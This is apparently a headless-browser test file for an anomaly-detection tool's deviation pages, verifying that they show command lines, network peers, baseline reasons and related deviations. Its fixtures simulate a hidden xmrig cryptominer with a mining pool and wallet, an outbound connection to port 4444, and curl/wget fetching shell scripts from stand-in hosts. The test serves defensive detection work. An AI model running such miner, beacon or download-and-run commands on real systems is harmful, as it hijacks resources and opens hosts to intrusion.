/**
 * A deviation page that tells the story, in headless Chromium: the exact indicators (full command
 * line, peer address and port), why it is a deviation (baseline, version, rule) and the related
 * deviations (same pod, same item in other workloads).
 */
import t from 'tap';
import { launchBrowser, NEEDS_CHROMIUM, signIn } from '../helpers/browser.js';
import { HOUR, learnScene, net, proc, startHarness, T0, workload } from '../helpers/api-harness.js';

const WALLET = '--url stratum+tcp://pool.example:3333 --user 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';

t.test('indicators, the reason and related deviations on a deviation page', NEEDS_CHROMIUM, async (t) => {
  const h = await startHarness(t);
  const { web } = await learnScene(h);
  const miner = await h.raise(proc(web, T0 + 3 * HOUR, '/tmp/.x/xmrig', WALLET, { parent: '/bin/sh' }));
  const beacon = await h.raise(net(web, T0 + 3 * HOUR + 1000, 'egress', '198.51.100.66', 4444, { exe: '/tmp/.x/xmrig' }));
  // The same binary in another workload (learned first, so it is a deviation there too).
  const other = workload('team-c', 'batch');
  await h.ingest(proc(other, T0 + 1000, '/usr/local/bin/batch'));
  await h.endLearning();
  const elsewhere = await h.raise(proc(other, T0 + 3 * HOUR + 2000, '/tmp/.x/xmrig', '--donate-level 1'));

  const browser = await launchBrowser(t);
  const page = await browser.newPage();
  await signIn(page, `${h.base}/ui/deviations/${miner.id}`, h.tokens.viewer);
  const story = page.locator('section.story');
  await story.waitFor();
  t.match(await story.textContent(), `/tmp/.x/xmrig ${WALLET}`, 'the full command line with the wallet address');
  t.match(await story.textContent(), 'pod web-7d4b9c-x1 on node node-1');
  const why = await page.textContent('p.why');
  t.match(why, /Not allowed by the baseline of team-a\/web\/app \(generation 1, version 1, active, partial\): runs \/tmp\/\.x\/xmrig/);
  t.match(why, `Severity ${miner.severity}: ${miner.severityReason}`);
  const relatedSection = page.locator('section[aria-label="Related deviations"]:not([aria-busy])');
  await relatedSection.waitFor();
  const links = await relatedSection.locator('a').evaluateAll((as) => as.map((a) => (a as unknown as { getAttribute(n: string): string }).getAttribute('href')));
  t.ok(links.includes(`#/deviations/${beacon.id}`), 'the connection from the same pod is related');
  t.ok(links.includes(`#/deviations/${elsewhere.id}`), 'the same binary in another workload is related');
  t.match(await relatedSection.textContent(), /Same pod.*Same item in other workloads/s);

  await page.goto(`${h.base}/ui/deviations/${beacon.id}`);
  await page.waitForSelector('section.story');
  t.match(await page.textContent('section.story'), /egress tcp to 198\.51\.100\.66:4444/, 'the peer address and port');
  t.match(await page.textContent('p.why'), 'connects out to external 198.51.100.66 on tcp/4444');
});

t.test('a deviation of the same release in another pod is linked as related', NEEDS_CHROMIUM, async (t) => {
  const h = await startHarness(t);
  const { web } = await learnScene(h);
  const first = await h.raise(proc(web, T0 + 3 * HOUR, '/usr/bin/curl', 'http://198.51.100.9/x.sh', { pod: 'web-7d4b9c-x1' }));
  const sibling = await h.raise(proc(web, T0 + 3 * HOUR + 1000, '/usr/bin/wget', 'http://198.51.100.9/y.sh', { pod: 'web-7d4b9c-x2' }));
  t.equal(sibling.image, first.image, 'one image: the same release');

  const page = await (await launchBrowser(t)).newPage();
  await signIn(page, `${h.base}/ui/deviations/${first.id}`, h.tokens.viewer);
  const relatedSection = page.locator('section[aria-label="Related deviations"]:not([aria-busy])');
  await relatedSection.waitFor();
  const heading = relatedSection.locator('h3', { hasText: 'Same image (release)' });
  t.equal(await heading.count(), 1, 'a "Same image (release)" list');
  const link = relatedSection.locator(`a[href="#/deviations/${sibling.id}"]`);
  t.equal(await link.count(), 1, 'the other pod\'s deviation is linked');
  t.notMatch(await relatedSection.textContent(), /Same pod/, 'not the same pod');
  await link.click();
  await page.waitForURL(new RegExp(`#/deviations/${sibling.id}$`));
  await page.waitForSelector('section.story');
  t.match(await page.textContent('h1'), sibling.summary, 'the link opens the related deviation');
});
